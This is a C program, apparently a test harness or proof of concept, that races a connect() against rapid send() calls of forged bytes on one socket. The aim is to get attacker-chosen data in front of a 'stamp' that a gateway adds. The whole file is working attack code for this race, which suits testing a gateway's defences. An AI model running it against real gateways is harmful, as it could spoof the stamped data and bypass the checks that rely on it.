/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to get bytes of its own in front of the stamp: one thread connects, another one sends the forged bytes on the
 * same socket as fast as it can, so that some sends are entered while the socket is in SYN_SENT.
 *
 * usage: attacker ADDRESS PORT ROUNDS FORGED_FILE; prints how many sends succeeded.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static atomic_int target = -1; /* socket to attack; -1: none, -2: the end */
static atomic_int done_round;
static atomic_int round_number;
static char forged[4096];
static size_t forged_size;
static long sent;

static void *spin(void *unused)
{
	(void)unused;
	for (;;) {
		int sock = atomic_load(&target);
		int now = atomic_load(&round_number);

		if (sock == -2)
			return NULL;
		if (sock < 0 || now == atomic_load(&done_round))
			continue;
		/* EPIPE until connect() has begun; blocks while in SYN_SENT. */
		if (send(sock, forged, forged_size, MSG_NOSIGNAL) > 0) {
			sent++;
			atomic_store(&done_round, now);
		}
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	pthread_t thread;
	FILE *file;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	to.sin_port = htons((unsigned short)atoi(argv[2]));
	file = fopen(argv[4], "rb");
	if (!file)
		return 2;
	forged_size = fread(forged, 1, sizeof(forged), file);
	fclose(file);
	if (pthread_create(&thread, NULL, spin, NULL))
		return 2;
	for (int i = 1; i <= atoi(argv[3]); i++) {
		int sock = socket(AF_INET, SOCK_STREAM, 0);

		if (sock < 0)
			return 1;
		atomic_store(&round_number, i);
		atomic_store(&target, sock);
		if (connect(sock, (struct sockaddr *)&to, sizeof(to)))
			return 1;
		while (atomic_load(&done_round) != i)
			sched_yield(); /* the sender, and on a busy machine the gateway, need the CPU */
		atomic_store(&target, -1);
		close(sock);
	}
	atomic_store(&target, -2);
	pthread_join(thread, NULL);
	printf("%ld\n", sent);
	return 0;
}
